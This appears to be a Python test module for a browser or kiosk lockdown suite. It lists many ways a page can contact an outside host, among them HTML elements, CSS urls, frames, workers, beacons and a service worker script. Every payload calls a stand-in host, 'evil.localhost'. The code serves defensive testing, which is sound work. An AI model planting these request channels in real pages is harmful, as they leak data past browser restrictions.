"""Ways out by what a page loads: every place of a document where an address may stand, at once.

All of it leads to the stranger, who tells by the path which one came through.
"""

from collections.abc import Iterator

from kiosk.trials.lockdown.pages import load
from kiosk.trials.lockdown.technique import CLICK, LATER, Technique

_AT = "http://evil.localhost:__PORT__"
_ELEMENTS = f"""<button id=all>press</button>
<input type=image src={_AT}/input><video poster={_AT}/poster>
<track default src={_AT}/track></video>
<svg><image href={_AT}/svg-image /><use href={_AT}/svg-use#x /><filter id=f><feImage
href={_AT}/fe-image /></filter><rect width=9 height=9 filter='url(#f)' /></svg>
<picture><source srcset={_AT}/srcset><img></picture><img attributionsrc={_AT}/attribution>
<table background={_AT}/background></table><portal src={_AT}/portal></portal>
<fencedframe></fencedframe><object data={_AT}/object></object><embed src={_AT}/embed>
<link rel=manifest href={_AT}/manifest><link rel=icon href={_AT}/icon>
<link rel=apple-touch-icon href={_AT}/touch-icon><link rel=stylesheet href={_AT}/sheet>
<link rel=preload as=fetch href={_AT}/preload><link rel=modulepreload href={_AT}/ahead>
<style>@import url('{_AT}/import'); @font-face {{ font-family: q; src: url('{_AT}/font') }}
#all {{ font-family: q; cursor: url('{_AT}/cursor'), auto; background: url('{_AT}/ground');
mask-image: url('{_AT}/mask'); border-image: url('{_AT}/border') 9; shape-outside:
url('{_AT}/shape') }} #all::after {{ content: url('{_AT}/content') }}</style>"""
_FRAMES = f"""<iframe srcdoc="<img src={_AT}/srcdoc>"></iframe>
<iframe src="data:text/html,<img src={_AT}/data>"></iframe>
<iframe sandbox=allow-scripts srcdoc="<script>fetch('{_AT}/sandboxed')</script>"></iframe>"""
_SCRIPTS = """
const made = (text, type) => URL.createObjectURL(new Blob([text], {type}));
const all = "fetch(E + '/fetch', {mode: 'no-cors'}).catch(() => 0);"
+ "new EventSource(E + '/events'); const x = new XMLHttpRequest();"
+ "x.open('GET', E + '/xhr'); x.send()";
const socket = where => `new WebSocket('${where.replace('http', 'ws')}/socket');`;
new Worker(made(`const E = '${EVIL}/worker'; ${all}; ${socket(EVIL)}`));
if (window.SharedWorker)
    new SharedWorker(made(`const E = '${EVIL}/shared'; ${all}; ${socket(EVIL)}`)).port.start();
document.body.append(Object.assign(document.createElement('iframe'),
{src: made(`<img src=${EVIL}/blob>`, 'text/html')}));
const empty = document.createElement('iframe'); document.body.append(empty);
empty.contentWindow.fetch(EVIL + '/empty', {mode: 'no-cors'}).catch(mine);
new empty.contentWindow.Image().src = EVIL + '/empty-image';
fetch(EVIL + '/kept', {method: 'POST', body: 'x', mode: 'no-cors', keepalive: true}).catch(mine);
import(EVIL + '/module').catch(mine);
new AudioContext().audioWorklet.addModule(EVIL + '/worklet').catch(mine);
addEventListener('pagehide', () => navigator.sendBeacon(EVIL + '/hidden', 'x'));
"""
_SERVICE = "/service.js"
SCRIPTS = {
    _SERVICE: "const E = 'http://evil.localhost:' + location.port; const ask = what => fetch(E + "
    "what, {mode: 'no-cors'}).catch(() => 0); oninstall = e => { skipWaiting(); e.waitUntil(ask("
    "'/installed')); try { importScripts(E + '/imported') } catch (x) {} }; onactivate = e => "
    "e.waitUntil(clients.claim().then(() => ask('/active')).then(() => clients.openWindow(E + "
    "'/opened')).catch(() => 0)); onfetch = e => e.respondWith(ask('/answered').then(() => "
    "fetch(e.request)))"
}


def ways_of_parts() -> Iterator[Technique]:
    """All of them."""
    yield Technique(25, "whatever a document names", _ELEMENTS, (CLICK, LATER))
    yield Technique(25, "what frames made by a page name", _FRAMES, (LATER,))
    yield Technique(25, "what scripts and workers ask", load(_SCRIPTS), (LATER,))
    worker = (
        f"await navigator.serviceWorker.register('{_SERVICE}'); await "
        "navigator.serviceWorker.ready; await fetch('/x'); document.body.append("
        "Object.assign(document.createElement('img'), {src: '/x'}))"
    )
    yield Technique(25, "what a service worker asks", load(worker), (LATER,))
